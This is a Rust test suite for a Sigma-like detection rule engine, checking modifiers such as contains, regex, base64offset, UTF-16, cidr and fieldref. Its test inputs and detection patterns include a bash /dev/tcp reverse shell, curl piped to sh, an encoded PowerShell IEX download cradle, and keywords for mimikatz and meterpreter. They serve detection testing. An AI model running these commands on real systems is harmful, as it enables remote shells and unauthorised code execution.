//! Every value modifier, wildcards, nulls, lists and keywords, through whole rules.

use serde_json::json;

use super::{exec, hit, load, proc_hit, proc_rule, report_of, rule};
use crate::detect::pattern::{base64, utf16, Utf16};

fn cmd(c: &str) -> serde_json::Value {
    json!({"process": {"command_line": c}})
}

#[test]
fn equals_is_case_insensitive_by_default() {
    let d = "    sel:\n        Image: '/usr/bin/CURL'\n    condition: sel";
    assert!(proc_hit(d, json!({"process": {"executable": "/usr/bin/curl"}})));
    assert!(proc_hit(d, json!({"process": {"executable": "/USR/bin/Curl"}})));
    assert!(!proc_hit(d, json!({"process": {"executable": "/usr/bin/curl2"}})));
}

#[test]
fn contains_startswith_endswith() {
    let c = "    sel:\n        CommandLine|contains: 'ExEc'\n    condition: sel";
    assert!(proc_hit(c, cmd("find / -exec sh")));
    assert!(!proc_hit(c, cmd("find / -ex ec")));
    let s = "    sel:\n        CommandLine|startswith: 'python'\n    condition: sel";
    assert!(proc_hit(s, cmd("Python3 -c x")));
    assert!(!proc_hit(s, cmd("/usr/bin/python3")));
    let e = "    sel:\n        Image|endswith: '/sh'\n    condition: sel";
    assert!(proc_hit(e, json!({"process": {"executable": "/bin/sh"}})));
    assert!(!proc_hit(e, json!({"process": {"executable": "/bin/bash"}})));
}

#[test]
fn cased_is_case_sensitive() {
    let d = "    sel:\n        CommandLine|contains|cased: 'SecretFlag'\n    condition: sel";
    assert!(proc_hit(d, cmd("x --SecretFlag")));
    assert!(!proc_hit(d, cmd("x --secretflag")));
    let eq = "    sel:\n        Image|cased: '/tmp/X'\n    condition: sel";
    assert!(proc_hit(eq, json!({"process": {"executable": "/tmp/X"}})));
    assert!(!proc_hit(eq, json!({"process": {"executable": "/tmp/x"}})));
}

#[test]
fn lists_are_or_and_all_makes_them_and() {
    let or = "    sel:\n        CommandLine|contains:\n            - 'wget'\n            - 'curl'\n    condition: sel";
    assert!(proc_hit(or, cmd("curl x")));
    assert!(proc_hit(or, cmd("wget x")));
    assert!(!proc_hit(or, cmd("fetch x")));
    let all =
        "    sel:\n        CommandLine|contains|all:\n            - 'curl'\n            - '| sh'\n    condition: sel";
    assert!(proc_hit(all, cmd("curl http://x | sh")));
    assert!(!proc_hit(all, cmd("curl http://x -o y")));
    assert!(!proc_hit(all, cmd("cat y | sh")));
}

#[test]
fn maps_are_and_lists_of_maps_are_or() {
    let and = "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains: 'http'\n    condition: sel";
    assert!(proc_hit(and, json!({"process": {"executable": "/usr/bin/curl", "command_line": "curl http://x"}})));
    assert!(!proc_hit(and, json!({"process": {"executable": "/usr/bin/curl", "command_line": "curl -V"}})));
    let or = "    sel:\n        - Image|endswith: '/curl'\n        - CommandLine|contains: 'http'\n    condition: sel";
    assert!(proc_hit(or, json!({"process": {"executable": "/usr/bin/curl", "command_line": "curl -V"}})));
    assert!(proc_hit(or, json!({"process": {"executable": "/usr/bin/wget", "command_line": "wget http://x"}})));
    assert!(!proc_hit(or, json!({"process": {"executable": "/usr/bin/wget", "command_line": "wget -V"}})));
}

#[test]
fn wildcards_and_escapes() {
    let d = "    sel:\n        Image: '/tmp/*/x?'\n    condition: sel";
    assert!(proc_hit(d, json!({"process": {"executable": "/tmp/a/b/x1"}})));
    assert!(!proc_hit(d, json!({"process": {"executable": "/tmp/a/x"}})));
    // `\*` is a literal star.
    let lit = "    sel:\n        CommandLine: 'rm -rf \\*'\n    condition: sel";
    assert!(proc_hit(lit, cmd("rm -rf *")));
    assert!(!proc_hit(lit, cmd("rm -rf /")));
    let q = "    sel:\n        CommandLine|endswith: 'really\\?'\n    condition: sel";
    assert!(proc_hit(q, cmd("are you really?")));
    assert!(!proc_hit(q, cmd("are you reallyX")));
    // `\\*`: a backslash, then a wildcard.
    let bs = "    sel:\n        CommandLine: 'a\\\\*'\n    condition: sel";
    assert!(proc_hit(bs, cmd("a\\anything")));
    assert!(!proc_hit(bs, cmd("aanything")));
    // A backslash before an ordinary character stays.
    let plain = "    sel:\n        CommandLine: 'C:\\Windows\\x'\n    condition: sel";
    assert!(proc_hit(plain, cmd("c:\\windows\\X")));
}

#[test]
fn null_matches_missing_or_null_fields() {
    let d = "    sel:\n        Image|endswith: '/sh'\n    filter:\n        process.parent.executable: null\n    condition: sel and not filter";
    assert!(proc_hit(d, json!({"process": {"executable": "/bin/sh"}})));
    let orphan = json!({"process": {"executable": "/bin/sh", "parent": {"executable": null}}});
    assert!(!proc_hit(d, orphan));
    let set = load(&proc_rule(d));
    let mut ev = exec(json!({"process": {"executable": "/bin/sh"}}));
    if let Some(p) = ev["process"]["parent"].as_object_mut() {
        p.remove("executable");
    }
    assert!(!hit(&set, &ev), "a missing field is null too");
}

#[test]
fn empty_string_is_not_null() {
    let d = "    sel:\n        CommandLine: ''\n    condition: sel";
    assert!(proc_hit(d, cmd("")));
    assert!(!proc_hit(d, cmd("x")));
    let set = load(&proc_rule(d));
    let mut ev = exec(json!({}));
    if let Some(p) = ev["process"].as_object_mut() {
        p.remove("command_line");
    }
    assert!(!hit(&set, &ev));
}

#[test]
fn keyword_lists() {
    let d = "    keywords:\n        - 'meterpreter'\n        - 'mimikatz'\n    condition: keywords";
    assert!(proc_hit(d, cmd("./MIMIKATZ.elf")));
    assert!(proc_hit(d, json!({"process": {"working_directory": "/tmp/meterpreter"}})));
    assert!(!proc_hit(d, cmd("ls")));
    let all = "    keywords:\n        '|all':\n            - 'nmap'\n            - '-sS'\n    condition: keywords";
    assert!(proc_hit(all, cmd("nmap -sS 10.0.0.0/8")));
    assert!(!proc_hit(all, cmd("nmap -sT 10.0.0.0/8")));
}

#[test]
fn regular_expressions_and_flags() {
    let d = "    sel:\n        CommandLine|re: '^bash -i >& /dev/tcp/[0-9.]+/[0-9]+'\n    condition: sel";
    assert!(proc_hit(d, cmd("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")));
    assert!(!proc_hit(d, cmd("BASH -i >& /dev/tcp/10.0.0.1/4444")), "re is case-sensitive by default");
    let i = "    sel:\n        CommandLine|re|i: '^bash -i'\n    condition: sel";
    assert!(proc_hit(i, cmd("BASH -I")));
    let m = "    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel";
    assert!(proc_hit(m, cmd("first\nsecond\nthird")));
    let no_m = "    sel:\n        CommandLine|re: '^second$'\n    condition: sel";
    assert!(!proc_hit(no_m, cmd("first\nsecond\nthird")));
    let s = "    sel:\n        CommandLine|re|s: 'a.b'\n    condition: sel";
    assert!(proc_hit(s, cmd("a\nb")));
    let no_s = "    sel:\n        CommandLine|re: 'a.b'\n    condition: sel";
    assert!(!proc_hit(no_s, cmd("a\nb")));
    let r = report_of("x.yml", &proc_rule("    sel:\n        CommandLine|re: 'a(b'\n    condition: sel"));
    assert_eq!(r.errors.len(), 1);
    assert_eq!((r.errors[0].line, r.errors[0].column), (8, 25));
    let look = report_of("x.yml", &proc_rule("    sel:\n        CommandLine|re: 'a(?=b)'\n    condition: sel"));
    assert!(look.is_ok());
    assert_eq!(look.not_applicable.len(), 1);
}

#[test]
fn base64_modifiers() {
    let d = "    sel:\n        CommandLine|base64|contains: 'curl http://evil'\n    condition: sel";
    let enc = base64(b"curl http://evil");
    assert!(proc_hit(d, cmd(&format!("echo {enc} | base64 -d | sh"))));
    assert!(!proc_hit(d, cmd("echo Y3VybA== | base64 -d")));
    // base64offset: the value at each of the three alignments inside a longer payload.
    let o = "    sel:\n        CommandLine|base64offset|contains: '/bin/sh -i'\n    condition: sel";
    let set = load(&proc_rule(o));
    for prefix in ["", "x", "xy"] {
        let payload = base64(format!("{prefix}/bin/sh -i 2>&1").as_bytes());
        assert!(hit(&set, &exec(cmd(&format!("echo {payload} | base64 -d | bash")))), "offset {}", prefix.len());
    }
    assert!(!hit(&set, &exec(cmd(&format!("echo {} | base64 -d", base64(b"/bin/bash -x"))))));
}

#[test]
fn utf16_with_base64() {
    let d = "    sel:\n        CommandLine|wide|base64offset|contains: 'IEX'\n    condition: sel";
    let set = load(&proc_rule(d));
    for prefix in ["", "a", "ab"] {
        let payload = base64(&utf16(format!("{prefix}IEX (New-Object Net.WebClient)").as_bytes(), Utf16::Le));
        assert!(hit(&set, &exec(cmd(&format!("pwsh -enc {payload}")))), "prefix {prefix:?}");
    }
    let be = "    sel:\n        CommandLine|utf16be|base64|contains: 'id'\n    condition: sel";
    assert!(proc_hit(be, cmd(&format!("x {}", base64(&utf16(b"id", Utf16::Be))))));
    let bom = "    sel:\n        CommandLine|utf16|base64|contains: 'id'\n    condition: sel";
    assert!(proc_hit(bom, cmd(&format!("x {}", base64(&utf16(b"id", Utf16::Bom))))));
    // UTF-16 text alone can never occur in Linux events: not applicable, not an error.
    let alone =
        report_of("x.yml", &proc_rule("    sel:\n        CommandLine|wide|contains: 'cmd'\n    condition: sel"));
    assert!(alone.is_ok());
    assert_eq!(alone.not_applicable.len(), 1);
}

#[test]
fn windash_variants() {
    let d = "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel";
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        assert!(proc_hit(d, cmd(&format!("find . {dash}exec rm"))), "{dash}");
    }
    assert!(!proc_hit(d, cmd("find . +exec rm")));
}

#[test]
fn cidr_v4_and_v6() {
    let d = "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fd00::/8'\n    condition: sel";
    let set = load(&rule("network_connection", d));
    let conn = |ip: &str| json!({"event": {"category": ["network"], "type": ["connection"]}, "destination": {"ip": ip, "port": 22}});
    assert!(hit(&set, &conn("10.1.2.3")));
    assert!(hit(&set, &conn("fd12:3456::1")));
    assert!(!hit(&set, &conn("11.0.0.1")));
    assert!(!hit(&set, &conn("fe80::1")));
    let bad = report_of(
        "x.yml",
        &rule("network_connection", "    sel:\n        DestinationIp|cidr: '10.0.0.0/99'\n    condition: sel"),
    );
    assert_eq!((bad.errors[0].line, bad.errors[0].column), (8, 29));
}

#[test]
fn exists() {
    let d = "    sel:\n        process.hash.sha256|exists: true\n    condition: sel";
    assert!(proc_hit(d, json!({"process": {"hash": {"sha256": "ab"}}})));
    assert!(!proc_hit(d, json!({})));
    let n = "    sel:\n        process.hash.sha256|exists: false\n    condition: sel";
    assert!(proc_hit(n, json!({})));
    // Exists checks presence, not value: a null field exists.
    assert!(proc_hit(d, json!({"process": {"hash": {"sha256": null}}})));
}

#[test]
fn numeric_comparisons() {
    let net = |port: serde_json::Value| json!({"event": {"category": ["network"], "type": ["connection"]}, "destination": {"ip": "1.2.3.4", "port": port}});
    for (m, yes, no) in [("gt", 1024, 1023), ("gte", 1023, 1022), ("lt", 1022, 1023), ("lte", 1023, 1024)] {
        let set = load(&rule(
            "network_connection",
            &format!("    sel:\n        DestinationPort|{m}: 1023\n    condition: sel"),
        ));
        assert!(hit(&set, &net(json!(yes))), "{m} {yes}");
        assert!(!hit(&set, &net(json!(no))), "{m} {no}");
        assert!(hit(&set, &net(json!(yes.to_string()))), "numeric strings compare as numbers");
    }
    let eq = load(&rule("network_connection", "    sel:\n        DestinationPort: 4444\n    condition: sel"));
    assert!(hit(&eq, &net(json!(4444))));
    assert!(hit(&eq, &net(json!("4444"))));
    assert!(!hit(&eq, &net(json!(44444))));
    let bad = report_of(
        "x.yml",
        &rule("network_connection", "    sel:\n        DestinationPort|gt: 'many'\n    condition: sel"),
    );
    assert_eq!(bad.errors.len(), 1);
}

#[test]
fn neq() {
    let d = "    sel:\n        Image|endswith: '/sudo'\n        User|neq: root\n    condition: sel";
    assert!(proc_hit(d, json!({"process": {"executable": "/usr/bin/sudo", "user": {"name": "www-data"}}})));
    assert!(!proc_hit(d, json!({"process": {"executable": "/usr/bin/sudo", "user": {"name": "ROOT"}}})));
}

#[test]
fn fieldref() {
    let d = "    sel:\n        User|fieldref: ParentUser\n    condition: sel";
    let same = json!({"process": {"user": {"name": "alice"}, "parent": {"user": {"name": "Alice"}}}});
    let diff = json!({"process": {"user": {"name": "root"}, "parent": {"user": {"name": "alice"}}}});
    assert!(proc_hit(d, same.clone()));
    assert!(!proc_hit(d, diff.clone()));
    let cased = "    sel:\n        User|fieldref|cased: ParentUser\n    condition: sel";
    assert!(!proc_hit(cased, same));
    let neq = "    sel:\n        User|fieldref|neq: ParentUser\n    condition: sel";
    assert!(proc_hit(neq, diff));
    let sw = "    sel:\n        CommandLine|fieldref|startswith: Image\n    condition: sel";
    assert!(proc_hit(sw, json!({"process": {"executable": "/bin/ls", "command_line": "/bin/ls -la"}})));
}

#[test]
fn time_modifiers() {
    let d = "    sel:\n        '@timestamp|hour|gte': 22\n    condition: sel";
    assert!(proc_hit(d, json!({"@timestamp": "2026-11-21T23:30:00Z"})));
    assert!(!proc_hit(d, json!({"@timestamp": "2026-11-21T10:30:00Z"})));
    let month = "    sel:\n        '@timestamp|month': 11\n    condition: sel";
    assert!(proc_hit(month, json!({"@timestamp": "2026-11-21T23:30:00Z"})));
}

#[test]
fn hashes_field() {
    let h = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8";
    let d = format!(
        "    sel:\n        Hashes|contains:\n            - 'MD5=0123'\n            - 'SHA256={}'\n    condition: sel",
        h.to_uppercase()
    );
    assert!(proc_hit(&d, json!({"process": {"hash": {"sha256": h}}})));
    assert!(!proc_hit(&d, json!({"process": {"hash": {"sha256": "00"}}})));
    let md5_only = "    sel:\n        Hashes: 'MD5=0123'\n    condition: sel";
    assert!(!proc_hit(md5_only, json!({"process": {"hash": {"sha256": "0123"}}})));
}

#[test]
fn initiated_and_protocol() {
    let d = "    sel:\n        Initiated: 'true'\n        Protocol: tcp\n    condition: sel";
    let set = load(&rule("network_connection", d));
    let conn = |dir: &str, t: &str| json!({"event": {"category": ["network"], "type": ["connection"]}, "network": {"direction": dir, "transport": t}});
    assert!(hit(&set, &conn("egress", "tcp")));
    assert!(hit(&set, &conn("outbound", "TCP")));
    assert!(!hit(&set, &conn("ingress", "tcp")));
    assert!(!hit(&set, &conn("egress", "udp")));
    let inbound = load(&rule("network_connection", "    sel:\n        Initiated: false\n    condition: sel"));
    assert!(hit(&inbound, &conn("ingress", "tcp")));
}

#[test]
fn list_fields_match_any_element() {
    let d = "    sel:\n        process.args: '-i'\n    condition: sel";
    assert!(proc_hit(d, json!({"process": {"args": ["bash", "-i"]}})));
    assert!(!proc_hit(d, json!({"process": {"args": ["bash", "-c"]}})));
    let all = "    sel:\n        process.args|all:\n            - 'bash'\n            - '-i'\n    condition: sel";
    assert!(proc_hit(all, json!({"process": {"args": ["bash", "-i"]}})));
    assert!(!proc_hit(all, json!({"process": {"args": ["sh", "-i"]}})));
}

#[test]
fn modifier_errors_name_line_and_column() {
    let text =
        proc_rule("    sel:\n        Image|endswith: '/sh'\n        CommandLine|contians: 'x'\n    condition: sel");
    let r = report_of("rules/bad.yml", &text);
    assert_eq!(r.errors.len(), 1);
    let e = &r.errors[0];
    assert_eq!((e.line, e.column), (9, 21));
    assert_eq!(e.to_string(), "rules/bad.yml:9:21: unknown modifier `contians`");
    for bad in [
        "Image|contains|startswith: x",
        "Image|i: x",
        "Image|base64offset: x",
        "Image|exists: maybe",
        "Image|re|contains: x",
    ] {
        let r = report_of("x.yml", &proc_rule(&format!("    sel:\n        {bad}\n    condition: sel")));
        assert_eq!(r.errors.len(), 1, "{bad}");
        assert_eq!(r.errors[0].line, 8, "{bad}");
    }
}

#[test]
fn expand_placeholders_are_not_applicable() {
    let r = report_of("x.yml", &proc_rule("    sel:\n        User|expand: '%Administrators%'\n    condition: sel"));
    assert!(r.is_ok());
    assert_eq!(r.not_applicable.len(), 1);
    assert!(r.not_applicable[0].reason.contains("expand"));
}

#[test]
fn errors_in_quoted_keys_point_inside_the_quotes() {
    let r = report_of("q.yml", &proc_rule("    sel:\n        'CommandLine|bogus': x\n    condition: sel"));
    assert_eq!((r.errors[0].line, r.errors[0].column), (8, 22));
}
